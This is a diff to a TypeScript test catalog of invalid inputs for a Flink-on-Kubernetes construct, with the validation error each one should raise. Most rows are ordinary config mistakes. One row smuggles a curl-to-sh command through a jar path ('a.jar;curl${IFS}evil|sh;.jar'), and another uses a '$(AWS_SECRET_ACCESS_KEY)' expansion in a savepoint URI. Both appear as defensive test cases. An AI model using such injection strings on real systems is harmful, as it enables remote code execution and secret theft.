@@ -31,6 +31,49 @@ const row = (title: string, input: string, run: () => void, message: string): Ba
 /** The catalog. Messages were taken from the code and read for clarity. */
 export const BAD_INPUTS: BadInput[] = [
   row(
+    'jar path that would reach a shell',
+    'job: { jarUri: "local:///opt/flink/usrlib/a.jar;curl${IFS}evil|sh;.jar" }',
+    ex((p) => ({ job: { ...p.job, jarUri: 'local:///opt/flink/usrlib/a.jar;curl${IFS}evil|sh;.jar' } })),
+    'job.jarUri: "local:///opt/flink/usrlib/a.jar;curl${IFS}evil|sh;.jar" - may contain only letters, digits and "._+@/-" (no spaces, quotes, "$", ";", globs or ".." segments), as it reaches a shell and a command line; rename the jar, e.g. local:///opt/flink/usrlib/my-job-1.0.jar',
+  ),
+  row(
+    'storage URI with "$(...)" (kubelet expansion)',
+    'job: { initialSavepointPath: "s3://bucket/sp/$(AWS_SECRET_ACCESS_KEY)" }',
+    ex((p) => ({ job: { ...p.job, initialSavepointPath: 's3://bucket/sp/$(AWS_SECRET_ACCESS_KEY)' } })),
+    'job.initialSavepointPath: "s3://bucket/sp/$(AWS_SECRET_ACCESS_KEY)" - may contain only letters, digits and "._~:/@%+=,-" (no quotes, "$", "#", "?", ";" or backslashes); percent-encode anything else, e.g. %20 for a space',
+  ),
+  row(
+    'Unicode line separator in a config value',
+    'flinkConfiguration: { "pipeline.name": "orders\\u2028flink-conf.yaml: x" }',
+    ex(() => ({ flinkConfiguration: { 'pipeline.name': 'orders\u2028flink-conf.yaml: x' } })),
+    'flinkConfiguration["pipeline.name"]: "orders\\u2028flink-conf.yaml: x" - contains a line break, control character or Unicode line separator, which no Flink option takes and which YAML tools read as a new line; remove it',
+  ),
+  row(
+    'session cluster behind an Ingress without a submission decision',
+    'job: undefined, restIngress: { host: "flink.example.com" }, network: { restAllowedFrom: [...] }',
+    ex(() => ({
+      job: undefined,
+      restIngress: { host: 'flink.example.com' },
+      network: { restAllowedFrom: [{ namespaceSelector: { matchLabels: { team: 'ingress' } } }] },
+    })),
+    "restIngress.jobSubmission: undefined - must be set for a session cluster behind an Ingress: Flink's REST API has no authentication, so anyone who reaches it could upload and run a jar. Set true with authentication in front (ingress annotations), or false",
+  ),
+  row(
+    'PodMonitor without a named scraper',
+    'metrics: { podMonitor: {} }',
+    ex(() => ({ metrics: { podMonitor: {} } })),
+    'metrics.allowedFrom: [] - must name your Prometheus for metrics.podMonitor: the NetworkPolicy admits no scraper by default, e.g. [{ namespaceSelector: { matchLabels: { "kubernetes.io/metadata.name": "monitoring" } } }]',
+  ),
+  row(
+    'a setting the declared Flink version does not have',
+    'flinkVersion: FlinkVersion.V1_18, restartStrategy: RestartStrategy.exponentialDelay({ attemptsBeforeResetBackoff: 3 })',
+    ex(
+      () => ({ restartStrategy: RestartStrategy.exponentialDelay({ attemptsBeforeResetBackoff: 3 }) }),
+      FlinkVersion.V1_18,
+    ),
+    'restartStrategy: "restart-strategy.exponential-delay.attempts-before-reset-backoff" - needs "restart-strategy.exponential-delay.attempts-before-reset-backoff", which Flink 1.18 does not have (it exists from 1.19 on); leave that setting out or raise flinkVersion',
+  ),
+  row(
     'props not an object',
     'new FlinkCluster(chart, "F", undefined as any)',
     () => synthCluster(undefined as any),
@@ -961,6 +1004,12 @@ export const BAD_INPUTS: BadInput[] = [
     'flinkConfiguration["env.java.opts.taskmanager"]: "(hidden)" - sets the credential javax.net.ssl.keyStorePassword inline, which would write it into the ConfigMap, and so into your Git repository; keep it out of the configuration (a key file or keystore mounted from a Secret, or workload identity)',
   ),
   row(
+    'escape hatch: Total Flink Memory above the process size',
+    'flinkConfiguration: { "taskmanager.memory.flink.size": "2g" } (TaskManager process 1024Mi)',
+    ex(() => ({ flinkConfiguration: { 'taskmanager.memory.flink.size': '2g' } })),
+    'flinkConfiguration["taskmanager.memory.flink.size"]: "2g" - conflicts with the process size the construct sets from taskManager.resources.memory (1024Mi): Total Flink Memory (2048m) and JVM Metaspace (256m) exceed the process size, leaving nothing for JVM Overhead (it needs 192m to 1024m), so Flink would refuse to start. Remove it, or make the sizes add up (Flink\'s memory model: https://nightlies.apache.org/flink/flink-docs-stable/docs/deployment/memory/mem_setup/)',
+  ),
+  row(
     'session cluster: default parallelism above the slots',
     'no job, taskManager: { replicas: 2, taskSlots: 2 }, flinkConfiguration: { "parallelism.default": 8 }',
     ex(() => ({
@@ -977,16 +1026,28 @@ export const BAD_INPUTS: BadInput[] = [
     'flinkConfiguration["state.checkpoints.dir"]: "s3://b/cp" - is set by the construct; use checkpointing instead',
   ),
   row(
-    'escape hatch: key renamed for the version',
-    'flinkVersion: FlinkVersion.V1_20, flinkConfiguration: { "state.backend": "rocksdb" }',
-    ex(() => ({ flinkConfiguration: { 'state.backend': 'rocksdb' } }), FlinkVersion.V1_20),
-    'flinkConfiguration["state.backend"]: "rocksdb" - is deprecated for Flink 1.20 (renamed by 1.19 or earlier); did you mean "state.backend.type"?',
+    'escape hatch: not an option of the declared version (with the nearest real key)',
+    'flinkConfiguration: { "pipeline.nmae": "orders" }',
+    ex(() => ({ flinkConfiguration: { 'pipeline.nmae': 'orders' } })),
+    'flinkConfiguration["pipeline.nmae"]: "orders" - is not an option of Flink 1.19; did you mean "pipeline.name"?',
   ),
   row(
-    'escape hatch: akka key on 1.19+',
-    'flinkConfiguration: { "akka.ask.timeout": "30 s" }',
-    ex(() => ({ flinkConfiguration: { 'akka.ask.timeout': '30 s' } })),
-    'flinkConfiguration["akka.ask.timeout"]: "30 s" - is deprecated for Flink 1.19 (renamed by 1.19 or earlier); did you mean "pekko.ask.timeout"?',
+    'escape hatch: a value of the wrong type for the option',
+    'flinkConfiguration: { "web.submit.enable": "maybe" }',
+    ex(() => ({ flinkConfiguration: { 'web.submit.enable': 'maybe' } })),
+    'flinkConfiguration["web.submit.enable"]: "maybe" - is not a valid value: "maybe" is not a boolean; expected true or false',
+  ),
+  row(
+    'escape hatch: an internal option',
+    'flinkConfiguration: { "$internal.deployment.config-dir": "/tmp" }',
+    ex(() => ({ flinkConfiguration: { '$internal.deployment.config-dir': '/tmp' } })),
+    'flinkConfiguration["$internal.deployment.config-dir"]: "/tmp" - is an internal option Flink sets itself; remove it',
+  ),
+  row(
+    'escape hatch: an option newer than the declared version',
+    'flinkVersion: FlinkVersion.V1_18, flinkConfiguration: { "rest.profiling.enabled": true }',
+    ex(() => ({ flinkConfiguration: { 'rest.profiling.enabled': true } }), FlinkVersion.V1_18),
+    'flinkConfiguration["rest.profiling.enabled"]: true - is not an option of Flink 1.18 (it exists from 1.19 on); remove it or raise flinkVersion',
   ),
   row(
     'escape hatch: key removed in 2.0 (with replacement)',
@@ -1008,15 +1069,9 @@ export const BAD_INPUTS: BadInput[] = [
   ),
   row(
     'escape hatch: legacy and new key of one option',
-    'flinkConfiguration: { "pipeline.max-parallelism": 128, "pipeline.max-parallelism.x": 1 }',
-    ex(() => ({ flinkConfiguration: { 'pipeline.max-parallelism': 128, 'pipeline.max-parallelism.x': 1 } })),
-    'flinkConfiguration["pipeline.max-parallelism"]: "128" - conflicts with "pipeline.max-parallelism.x": one key is a prefix of the other, usually a legacy key beside its replacement, which is ambiguous; keep only one of them',
-  ),
-  row(
-    'escape hatch: key under a key the construct sets (2.x)',
-    'flinkVersion: FlinkVersion.V2_0, flinkConfiguration: { "rest.port.range": "8081" }',
-    ex(() => ({ flinkConfiguration: { 'rest.port.range': '8081' } }), FlinkVersion.V2_0),
-    'flinkConfiguration["rest.port.range"]: "8081" - conflicts with "rest.port", which the construct sets: one key may not be a prefix of another (Flink 2.x rejects the file); remove it',
+    'flinkConfiguration: { "state.backend": "rocksdb", "state.backend.type": "rocksdb" }',
+    ex(() => ({ flinkConfiguration: { 'state.backend': 'rocksdb', 'state.backend.type': 'rocksdb' } })),
+    'flinkConfiguration["state.backend"]: "rocksdb" - conflicts with "state.backend.type": one key is a prefix of the other, usually a legacy key beside its replacement, which is ambiguous; keep only one of them',
   ),
   row(
     'escape hatch: key with a space',
@@ -1180,6 +1235,6 @@ export const BAD_INPUTS: BadInput[] = [
     'ConfigMap above 1 MiB',
     'flinkConfiguration: { "pipeline.name": "x".repeat(1100000) }',
     ex(() => ({ flinkConfiguration: { 'pipeline.name': 'x'.repeat(1_100_000) } })),
-    'ConfigMap my-flink-cluster-flink-config: "1103139 bytes" - exceeds Kubernetes\' 1 MiB ConfigMap limit; move large values out of flinkConfiguration, or use haAgent.image instead of the bundled agent',
+    'ConfigMap my-flink-cluster-flink-config: "1103153 bytes" - exceeds Kubernetes\' 1 MiB ConfigMap limit; move large values out of flinkConfiguration, or use haAgent.image instead of the bundled agent',
   ),
 ];
